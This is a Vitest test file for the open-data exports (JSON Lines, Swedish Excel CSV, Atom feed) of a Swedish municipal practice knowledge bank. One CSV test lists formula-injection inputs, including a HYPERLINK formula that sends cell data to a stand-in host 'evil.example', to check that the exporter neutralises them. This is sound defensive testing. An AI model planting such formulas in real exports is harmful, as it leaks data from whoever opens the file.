import sax from "sax";
import { describe, expect, it } from "vitest";
import { practiceData } from "../../test/support/practice-data.js";
import { openPracticeOf, OPEN_DATA_SCHEMA_VERSION, toAtom, toJsonLines, toSpreadsheet } from "./index.js";

const data = (overrides: Record<string, unknown> = {}) =>
  practiceData({
    id: "flen-sprakvanner",
    title: 'Språkvänner "i grupp"; Flen',
    summary: "En mening med semikolon; och <tecken> & annat.",
    topics: ["sprakvan"],
    period: { start: 2016 },
    contact: { role: "integrationssamordnare", organisation: "Flens kommun" },
    asOf: "2017-10-31",
    ...overrides,
  });

const SITE = "https://kunskapsbanken.example.se";
const record = (overrides: Record<string, unknown> = {}, body = "## Vad är det?\n\nText.\n") =>
  openPracticeOf({ data: data(overrides), body }, SITE);

/** Parses the CSV as a spreadsheet would: BOM, semicolons, quoted cells with doubled quotes. */
function readCsv(text: string): string[][] {
  expect(text.startsWith("\uFEFF")).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 1; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ";") {
      row.push(cell);
      cell = "";
    } else if (!quoted && c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

describe("open-data records", () => {
  it("carry a schema version, labels next to ids, dates, sources and the body", () => {
    const open = record();
    expect(open).toMatchObject({
      schemaVersion: OPEN_DATA_SCHEMA_VERSION,
      url: `${SITE}/praktik/flen-sprakvanner`,
      municipalities: [{ id: "flen", label: "Flen" }],
      status: { id: "pagaende", label: "Pågående" },
      asOf: "2017-10-31",
      confirmed: null,
      sources: [{ document: "lansstyrelsen-sodermanland-2017", section: "Bilaga 2, Flens kommun", url: null }],
      body: "## Vad är det?\n\nText.",
    });
  });

  it("gives each place its kind and SCB codes, and the counties it lies in, for joining with SCB and Kolada", () => {
    expect(record({ municipalities: ["malmo", "flen"] })).toMatchObject({
      municipalities: [
        { id: "malmo", label: "Malmö", kind: "kommun", kommunkod: "1280", countyCode: "12" },
        { id: "flen", label: "Flen", kind: "kommun", kommunkod: "0482", countyCode: "04" },
      ],
      counties: [
        { id: "skane-lan", label: "Skåne län", code: "12" },
        { id: "sodermanlands-lan", label: "Södermanlands län", code: "04" },
      ],
      organiserType: null,
    });
    expect(record({ municipalities: ["skane-lan"], organiserType: "lansstyrelse" })).toMatchObject({
      municipalities: [{ id: "skane-lan", kind: "län", kommunkod: null, countyCode: "12" }],
      counties: [{ id: "skane-lan", code: "12" }],
      organiserType: { id: "lansstyrelse", label: "Länsstyrelse" },
    });
    expect(record({ municipalities: ["sverige"] })).toMatchObject({
      municipalities: [{ id: "sverige", label: "Hela Sverige", kind: "land", kommunkod: null, countyCode: null }],
      counties: [],
    });
  });

  it("JSON Lines has one parseable record a line", () => {
    const lines = toJsonLines([record(), record({ id: "flen-annat" })])
      .trimEnd()
      .split("\n");
    expect(lines.map((line) => (JSON.parse(line) as { id: string }).id)).toEqual(["flen-sprakvanner", "flen-annat"]);
  });
});

describe("CSV for Swedish Excel", () => {
  it("has a BOM, semicolons, Swedish headings and labels next to ids", () => {
    const [header, row] = readCsv(toSpreadsheet([record()]));
    expect(header?.slice(0, 5)).toEqual(["id", "Rubrik", "Sammanfattning", "Kommuner", "Kommun-id"]);
    expect(row?.slice(0, 5)).toEqual([
      "flen-sprakvanner",
      'Språkvänner "i grupp"; Flen',
      "En mening med semikolon; och <tecken> & annat.",
      "Flen",
      "flen",
    ]);
    const column = (heading: string) => row?.[header!.indexOf(heading)];
    expect(column("Kommunkod")).toBe("0482");
    expect(column("Län")).toBe("Södermanlands län");
    expect(column("Länskod")).toBe("04");
    expect(row).toContain("Pågående");
    expect(row).toContain("aldrig");
  });

  it.each([['=HYPERLINK("http://evil.example/?"&A1,"Klicka")'], ["+46 70 123 45 67 ringer"], ["-2+3 är en formel"], ["@SUM(A1:A2) också"]])(
    "neutralises the formula cell %s",
    (title) => {
      const [, row] = readCsv(toSpreadsheet([record({ title })]));
      expect(row?.[1]).toBe(`'${title}`);
    },
  );
});

describe("Atom feed", () => {
  const wellFormed = (xml: string) => {
    const parser = sax.parser(true);
    let error: Error | undefined;
    parser.onerror = (e) => {
      error = e;
    };
    parser.write(xml).close();
    return error;
  };

  it("is well-formed XML with escaped text and the status dated", () => {
    const feed = toAtom([record()], SITE, "Kunskapsbanken");
    expect(wellFormed(feed)).toBeUndefined();
    expect(feed).toContain("&lt;tecken&gt; &amp; annat.");
    expect(feed).toContain("Pågående enligt uppgifter från oktober 2017");
    expect(feed).toContain("<updated>2017-10-31T00:00:00Z</updated>");
  });

  it("stays well-formed when a title holds a character XML forbids", () => {
    const open = { ...record(), title: "Titel med \u0001styrtecken\u000b och \ud800 halva" };
    const feed = toAtom([open], SITE, "Kunskapsbanken");
    expect(wellFormed(feed)).toBeUndefined();
    expect(feed).toContain("<title>Titel med styrtecken och  halva</title>");
  });

  it("puts a practice first when it has been confirmed most recently", () => {
    const confirmed = record({
      id: "flen-bekraftad",
      confirmed: { date: "2027-03-01", role: "integrationsstrateg", organisation: "Flens kommun" },
    });
    const feed = toAtom([record(), confirmed], SITE, "Kunskapsbanken");
    expect(feed.indexOf("flen-bekraftad")).toBeLessThan(feed.indexOf("flen-sprakvanner<"));
  });
});
